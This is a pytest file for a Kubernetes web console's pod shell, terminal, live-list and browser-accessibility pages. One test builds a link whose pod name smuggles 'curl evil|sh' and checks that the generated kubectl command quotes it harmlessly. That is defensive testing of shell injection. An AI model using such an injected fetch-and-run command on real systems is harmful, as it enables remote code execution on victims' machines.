def test_a_shell_in_a_pod(owner, person, cluster, k):
    k("run", "p", f"--image={IMAGE}", "--restart=Never", "--command", "--", "sleep", "1000")
    k("wait", "--for=condition=Ready", "pod/p", "--timeout=120s")
    pod = owner.get(objects(cluster, f"core/v1/pods/{k.namespace}/p"))
    page = owner.get(pod.links["Shell"])
    assert "kubectl exec -it p" in page.text
    hostile = owner.get(page_of(cluster, "/pods/d%3B%20b/x%3Bcurl%20evil%7Csh%3B/shell"))  # of a link that somebody sent
    assert "kubectl exec -it 'x;curl evil|sh;' -n 'd; b' --" in hostile.text, hostile.text
    path = page_of(cluster, f"/pods/{k.namespace}/p/terminal")
    assert path + "?container=p" in page.body
    said = typed(owner.terminal(path, "p"), b"stty size; echo $((40+2))-done; exit\n")
    assert b"31 97" in said and b"42-done" in said
    reader, _ = person(cluster["id"], READER)
    assert reader.get(page_of(cluster, f"/pods/{k.namespace}/p/shell?container=p")).status == 403
    for browser, target, container, origin, status in (
            (owner, path, "p", "https://example.org", 403), (reader, path, "p", None, 403),
            (owner, path.replace("/p/terminal", "/none/terminal"), "p", None, 404), (owner, path, "none", None, 400)):
        with pytest.raises(websocket.WebSocketBadStatusException) as refused:
            browser.terminal(target, container, origin)
        assert refused.value.status_code == status, (target, refused.value)


# live


def test_a_pod_page_is_live(owner, cluster, k):
    shown = owner.live(page_of(cluster, f"/pods?namespace={k.namespace}"))
    assert "soon" not in next(shown)
    k("run", "soon", f"--image={IMAGE}", "--restart=Never", "--command", "--", "sleep", "1000")
    while "Running" not in next(shown):
        pass
    shown.close()


def test_in_a_browser(sundog, clusters, cluster, k):
    """No serious finding of axe-core, no script error, nothing wider than the window; light and dark, laptop and phone."""
    need("chromium")
    k.apply(deployment("web", 2, "echo hello; while :; do sleep 1; done"))
    k.apply({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "web"},
             "spec": {"type": "LoadBalancer", "selector": {"app": "web"}, "ports": [{"port": 80}]}})
    k("create", "secret", "generic", "s", "--from-literal=password=x")
    k("rollout", "status", "deployment/web", "--timeout=60s")
    pod = k.json("pods")["items"][0]["metadata"]["name"]
    ns = k.namespace
    below = ["", "/workloads", f"/pods?namespace={ns}", "/services", "/configuration", "/events", f"/pods/{ns}/{pod}/logs",
             f"/pods/{ns}/{pod}/shell?container=main", f"/objects/apps/v1/deployments/{ns}/web", f"/objects/core/v1/pods/{ns}/{pod}", f"/objects/core/v1/secrets/{ns}/s"]
    first = admin(sundog)
    run_checks(packages(), "console.mjs", {
        "SUNDOG_URL": sundog.plain, "SUNDOG_USER": first["userName"], "SUNDOG_USER_PASSWORD": first["userPassword"],
        "SUNDOG_PAGES": json.dumps(["/console/clusters", *(page_of(cluster, path) for path in below)]),
        "SUNDOG_MAKE_GROUP": json.dumps({
            "url": f"{sundog.plain}{clusters.sub}/resourceGroups/made-while-looking?api-version=2022-09-01", "token": clusters.token})}, 6)
